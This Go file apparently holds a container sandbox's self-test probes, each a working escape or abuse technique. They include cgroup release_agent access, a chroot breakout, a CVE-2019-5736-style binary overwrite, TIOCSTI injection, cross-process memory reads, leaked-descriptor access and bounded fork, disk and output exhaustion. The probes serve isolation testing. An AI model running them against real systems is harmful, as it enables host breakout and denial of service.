package attacks

import (
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// attackRelease mounts a hierarchy of cgroup v1, whose root has a file that names a
// program for the kernel to run on the host. Opening it is proof enough.
func attackRelease(args []string) error {
	if err := unix.Mount("none", "/tmp", "cgroup", 0, "none,name="+args[0]); err != nil {
		return err
	}
	defer unix.Unmount("/tmp", unix.MNT_DETACH)
	return attackOpenWrite([]string{"/tmp/release_agent"})
}

// attackChroot is the classic way out of a chroot.
func attackChroot(args []string) error {
	if err := os.Mkdir("/tmp/x", 0o755); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/x"); err != nil {
		return err
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return attackCat(args)
}

func attackKill(args []string) error {
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	return unix.Kill(pid, unix.SIGKILL)
}

// attackKillName kills the process with that name (comm).
// attackKillName kills several at once: they are stopped first, so that none can
// replace another.
func attackKillName(args []string) error {
	for _, sig := range []unix.Signal{unix.SIGSTOP, unix.SIGKILL} {
		for _, name := range args {
			pid, err := pidOf(name)
			if err == nil {
				err = unix.Kill(pid, sig)
			}
			if err != nil {
				return err
			}
		}
	}
	return nil
}

func pidOf(name string) (int, error) {
	files, err := filepath.Glob("/proc/[0-9]*/comm")
	if err != nil {
		return 0, err
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err == nil && strings.TrimSpace(string(data)) == name {
			return strconv.Atoi(strings.Split(f, "/")[2])
		}
	}
	return 0, fmt.Errorf("no process %s in sight", name)
}

// attackPids prints the command line of every process.
func attackPids([]string) error {
	files, err := filepath.Glob("/proc/[0-9]*/cmdline")
	if err != nil {
		return err
	}
	for _, f := range files {
		if data, err := os.ReadFile(f); err == nil {
			fmt.Printf("%.200q\n", data)
		}
	}
	return nil
}

func attackShm(args []string) error {
	key, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	id, err := unix.SysvShmGet(key, 0, 0)
	if err != nil {
		return err
	}
	data, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		return err
	}
	fmt.Printf("%.64s\n", data)
	return unix.SysvShmDetach(data)
}

func attackMQ(args []string) error {
	name, err := unix.BytePtrFromString(args[0])
	if err != nil {
		return err
	}
	fd, _, errno := unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(name)), unix.O_RDONLY|unix.O_NONBLOCK, 0, 0, 0, 0)
	if errno != 0 {
		return errno
	}
	buf := make([]byte, 1<<16)
	n, _, errno := unix.Syscall6(unix.SYS_MQ_TIMEDRECEIVE, fd, uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)), 0, 0, 0)
	if errno != 0 {
		return errno
	}
	fmt.Println(string(buf[:n]))
	return nil
}

// attackDial tries for a while: a new interface may take a second to carry packets.
func attackDial(args []string) (err error) {
	for end := time.Now().Add(1200 * time.Millisecond); time.Now().Before(end); {
		var c net.Conn
		if c, err = net.DialTimeout(args[0], args[1], 250*time.Millisecond); err == nil {
			return printAll(c)
		}
		time.Sleep(10 * time.Millisecond)
	}
	return err
}

func attackRoot([]string) error {
	if unix.Getuid() != 0 {
		return fmt.Errorf("user id %d", unix.Getuid())
	}
	return nil
}

func attackGroups(args []string) error {
	groups, err := unix.Getgroups()
	if err == nil && !slices.Contains(groups, hostGroup) {
		err = fmt.Errorf("groups %v", groups)
	}
	if err != nil {
		return err
	}
	return attackCat(args)
}

func attackSleep(args []string) error {
	d, err := time.ParseDuration(args[0] + "s")
	if err == nil {
		time.Sleep(d)
	}
	return err
}

// attackTIOCSTI types a key on the terminal that is standard input.
func attackTIOCSTI([]string) error {
	key := byte('x')
	_, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&key)))
	if errno != 0 {
		return errno
	}
	return nil
}

// attackProcAt says whether a kernel file system is where the image wanted it.
func attackProcAt(args []string) error {
	var st unix.Statfs_t
	if err := unix.Statfs(args[0], &st); err != nil {
		return err
	}
	want, err := strconv.ParseInt(args[1], 0, 64)
	if err != nil || int64(st.Type) != want {
		return fmt.Errorf("file system %#x at %s (%v)", st.Type, args[0], err)
	}
	return nil
}

// attackMemory touches 128 MiB.
func attackMemory([]string) error {
	data, err := unix.Mmap(-1, 0, 128<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS)
	if err != nil {
		return err
	}
	for i := 0; i < len(data); i += os.Getpagesize() {
		data[i] = 1
	}
	return nil
}

// attackFork makes up to 300 processes; no more, whatever the limit.
func attackFork([]string) error {
	for i := range 300 {
		pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
		if errno != 0 {
			return fmt.Errorf("process %d: %w", i, errno)
		}
		if pid == 0 {
			for {
				unix.RawSyscall(unix.SYS_PAUSE, 0, 0, 0)
			}
		}
	}
	return nil
}

// attackThreads makes up to 300 threads, each counted as a process is.
func attackThreads([]string) error {
	started := make(chan struct{})
	for range 300 {
		go func() {
			runtime.LockOSThread()
			started <- struct{}{}
			select {}
		}()
	}
	for range 300 {
		<-started
	}
	return nil
}

// attackFill writes 80 MiB into a directory.
func attackFill(args []string) error {
	f, err := os.Create(args[0])
	if err != nil {
		return err
	}
	block := make([]byte, 1<<20)
	for range 80 {
		if _, err := f.Write(block); err != nil {
			return err
		}
	}
	return f.Close()
}

// attackFiles makes more empty files than a tmpfs of 64 MiB has pages.
func attackFiles(args []string) error {
	for i := range 20_000 {
		f, err := os.Create(args[0] + "/" + strconv.Itoa(i))
		if err != nil {
			return err
		}
		if err := f.Close(); err != nil {
			return err
		}
	}
	return nil
}

// attackFlood writes 8 MiB of output.
func attackFlood([]string) error {
	line := []byte(strings.Repeat("x", 1<<16-1) + "\n")
	for range 128 {
		if _, err := os.Stdout.Write(line); err != nil {
			return err
		}
	}
	return nil
}

// attackFDs looks for the canary behind every descriptor that was left open.
func attackFDs([]string) error {
	for fd := 3; fd < 128; fd++ {
		if got, err := unix.Openat(fd, "canary", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			return printAll(os.NewFile(uintptr(got), "canary"))
		}
	}
	return errors.New("no descriptor leads out")
}

// attackWriteAt changes the canary through a descriptor that was left open.
func attackWriteAt(args []string) error {
	fd, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	got, err := unix.Openat(fd, "canary", unix.O_WRONLY|unix.O_CLOEXEC|unix.O_TRUNC, 0)
	if err != nil {
		return err
	}
	_, err = unix.Write(got, []byte("pwned"))
	return err
}

// attackHelper waits for a process that enters the container on its way to another
// program, and reads its memory.
func attackHelper([]string) error {
	fmt.Println("ready")
	err := errors.New("no other process came by")
	for end := time.Now().Add(5 * time.Second); time.Now().Before(end); {
		if pid, missing := pidOf("naru-exec"); missing == nil {
			read := readMemory(pid)
			// The name changes at execve: what still has it was read before.
			if _, gone := pidOf("naru-exec"); gone == nil {
				// The address may be wrong: EFAULT comes after the permission.
				if err = read; err == nil || errors.Is(err, unix.EFAULT) {
					return nil
				}
			}
		}
		if _, stop := os.Stat("/tmp/stop"); stop == nil {
			return err
		}
	}
	return err
}

func readMemory(pid int) error {
	buf := make([]byte, 8)
	local := []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}}
	_, err := unix.ProcessVMReadv(pid, local, []unix.RemoteIovec{{Base: 0x400000, Len: len(buf)}}, 0)
	return err
}

// attackWalk looks for any file of a kernel file system that opens for writing,
// processes left aside: those are the container's own.
func attackWalk(args []string) error {
	var found []string
	err := filepath.WalkDir(args[0], func(path string, d os.DirEntry, err error) error {
		name := d.Name()
		if err != nil || d.IsDir() && filepath.Dir(path) == "/proc" && strings.Trim(name, "0123456789") == "" {
			if d.IsDir() {
				return filepath.SkipDir
			}
			return nil
		}
		// A mask is a null device; what nobody may write has no way to be written.
		if info, err := os.Lstat(path); err != nil || !info.Mode().IsRegular() || info.Mode()&0o222 == 0 {
			return nil
		}
		fd, err := unix.Open(path, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_CLOEXEC|unix.O_NOFOLLOW, 0)
		if err != nil {
			return nil
		}
		found = append(found, path)
		return unix.Close(fd)
	})
	if len(found) == 0 {
		return errors.Join(err, errors.New("no file opens for writing"))
	}
	fmt.Println(len(found), "files open for writing:", found)
	return nil
}

// attackExe overwrites the program that standard input is, the way CVE-2019-5736
// got at runc: by opening it again for writing.
func attackExe([]string) error {
	fd, err := unix.Open("/proc/self/fd/0", unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	_, err = unix.Pwrite(fd, []byte("pwned"), 0)
	return err
}

// handleOf is the handle of a file of the host as arguments for attackHandle.
func handleOf(path string) ([]string, error) {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
	if err != nil {
		return nil, err
	}
	return []string{strconv.Itoa(int(h.Type())), hex.EncodeToString(h.Bytes())}, nil
}

// timespec is a struct timespec for nanosleep(2) in a list of steps.
func timespec(d time.Duration) []byte {
	b := binary.NativeEndian.AppendUint64(nil, uint64(d/time.Second))
	return binary.NativeEndian.AppendUint64(b, uint64(d%time.Second))
}
